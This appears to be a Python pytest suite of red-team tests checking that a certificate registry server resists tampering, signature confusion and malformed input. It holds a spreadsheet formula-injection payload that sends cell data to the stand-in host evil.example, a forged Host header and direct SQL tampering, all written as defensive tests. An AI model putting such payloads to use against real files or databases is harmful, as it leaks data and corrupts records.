"""Issue 15, red-team style: each attack performed end to end against a real `registry serve`
process, on both backends where the store is involved."""

import base64
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import openpyxl
import pytest
import rfc8785
from pydantic import SecretStr

from registry.application import open_registry
from registry.settings import Settings
from registry.signing import open_keys
from registry.tokens import create_token, revoke_tokens
from tests.api.conftest import PASSPHRASE, body
from tests.examples import HOLDER, issue_request
from tests.processes import cli, server

REVOCATION = {"reason": "k", "details": "主动", "effective_date": "2026-09-01"}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@dataclass
class Target:
    base: str
    settings: Settings
    tokens: dict[str, str]

    def auth(self, role: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.tokens[role]}"}

    def issue(self, **overrides: object) -> httpx.Response:
        return httpx.post(
            f"{self.base}/api/v1/certificates",
            json=body(issue_request()) | overrides,
            headers=self.auth("registrar"),
            timeout=30,
        )

    def sql(self, statement: str, params: tuple[object, ...] = ()) -> None:
        """What an attacker with the database's credentials does, behind the server's back."""
        with open_registry(self.settings) as registry, registry.views.transaction() as cursor:
            cursor.execute(statement, params)


@pytest.fixture
def target(durable_database_url: str, tmp_path: Path) -> Iterator[Target]:
    settings = Settings(
        database_url=durable_database_url,
        keys_dir=tmp_path / "keys",
        key_passphrase=SecretStr(PASSPHRASE),
        rate_limit=0,
    )
    with open_registry(settings) as registry:
        open_keys(registry, settings).generate()
        tokens = {
            role: create_token(registry, name=role, role=role)
            for role in ("registrar", "regulator")
        }
    with server(settings) as base:
        yield Target(base, settings, tokens)


def revoked_certificate(target: Target) -> str:
    no = str(target.issue().json()["registration_no"])
    revoked = httpx.post(
        f"{target.base}/api/v1/certificates/{no}/revocations",
        json=REVOCATION,
        headers=target.auth("registrar"),
        timeout=30,
    )
    assert revoked.status_code == 201, revoked.text
    return no


# 1. A tampered read model ---------------------------------------------------------------


def test_a_revoked_row_set_to_valid_gets_no_valid_receipt_and_fails_the_audit(
    target: Target,
) -> None:
    no = revoked_certificate(target)

    target.sql(
        "UPDATE certificates SET status = 'valid', "
        "facts = replace(facts, '\"revoked\"', '\"valid\"') WHERE registration_no = %s",
        (no,),
    )
    receipt = httpx.get(f"{target.base}/api/v1/verify", params={"number": no, "receipt": 1})
    audit = cli(target.settings, "audit", "verify")

    assert receipt.json()["answer"]["status"] == "revoked"
    assert audit.returncode == 1
    assert f"certificates row {no}: status is 'valid', the events give 'revoked'" in audit.stderr


# 2. Checkpoints deleted with the event they covered ------------------------------------------


def test_a_revoked_token_brought_back_with_the_checkpoints_deleted_fails_the_audit(
    target: Target,
) -> None:
    with open_registry(target.settings) as registry:
        create_token(registry, name="mallory", role="registrar")
        revoke_tokens(registry, "mallory")
        last = registry.recorder.max_notification_id()
    httpx.get(f"{target.base}/api/v1/audit/checkpoint")

    table, key = (
        ("registry_events", "notification_id")
        if target.settings.database_url.startswith("postgresql")
        else ("stored_events", "rowid")
    )
    target.sql(f"DELETE FROM {table} WHERE {key} = %s", (last,))
    target.sql("DELETE FROM checkpoints")
    audit = cli(target.settings, "audit", "verify")

    assert audit.returncode == 1
    assert audit.stderr.startswith("registry: NOT intact")


# 3. Formula injection ----------------------------------------------------------------------


def test_a_formula_holder_name_is_no_formula_in_the_served_xlsx(target: Target) -> None:
    target.issue(holder=HOLDER | {"name": FORMULA})

    report = httpx.get(
        f"{target.base}/api/v1/regulator/reports",
        params={"from": "2026-01-01", "to": "2099-12-31", "format": "xlsx"},
        headers=target.auth("regulator"),
    )

    sheet = openpyxl.load_workbook(io.BytesIO(report.content)).active
    assert sheet is not None
    assert [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert sheet["D2"].value == FORMULA


# 4. A signature of another purpose -----------------------------------------------------------


def test_a_checkpoint_signature_is_not_an_authentic_qr_code(target: Target) -> None:
    target.issue()
    c = httpx.get(f"{target.base}/api/v1/audit/checkpoint").json()
    payload = rfc8785.dumps({"size": c["size"], "root": c["root"], "timestamp": c["timestamp"]})
    header, _, signature = c["signature"].split(".")
    token = f"{header}.{base64.urlsafe_b64encode(payload).rstrip(b'=').decode()}.{signature}"

    verdict = httpx.post(f"{target.base}/api/v1/qr/verify", json={"token": token}).json()
    page = httpx.get(f"{target.base}/v/{token}")

    assert verdict["authentic"] is False
    assert "二维码签名有效" not in page.text


# 10. A report signature that does not say its period ----------------------------------------


def test_two_empty_reports_carry_manifests_naming_their_months(target: Target) -> None:
    def manifest(month: str, last: str) -> dict[str, str]:
        response = httpx.get(
            f"{target.base}/api/v1/regulator/reports",
            params={"from": f"2026-{month}-01", "to": f"2026-{month}-{last}"},
            headers=target.auth("regulator"),
        )
        found: dict[str, str] = json.loads(response.headers["X-Registry-Manifest"])
        return found

    assert (manifest("09", "30")["from"], manifest("10", "31")["from"]) == (
        "2026-09-01",
        "2026-10-01",
    )


# 11 and 12. Input and exposure ---------------------------------------------------------------


@pytest.mark.parametrize(
    "overrides",
    [{"level": True}, {"level": "3"}, {"holder": HOLDER | {"name": "\u3164"}}],
    ids=["level-true", "level-string", "hangul-filler-name"],
)
def test_a_loosely_typed_or_invisible_issue_is_refused(
    target: Target, overrides: dict[str, object]
) -> None:
    response = target.issue(**overrides)

    assert response.status_code == 422


def test_a_huge_proof_position_is_422_not_500(target: Target) -> None:
    response = httpx.get(
        f"{target.base}/api/v1/audit/proof", params={"position": "14461045698923592352268288"}
    )

    assert response.status_code == 422


def test_the_server_answers_without_banner_cacheable_secrets_or_host_redirects(
    target: Target,
) -> None:
    audit = httpx.get(f"{target.base}/api/v1/regulator/feed", headers=target.auth("regulator"))
    redirect = httpx.get(f"{target.base}/api/v1/clauses/", headers={"Host": "evil.example"})

    assert "server" not in audit.headers
    assert audit.headers["cache-control"] == "no-store"
    assert redirect.headers["location"] == "/api/v1/clauses"
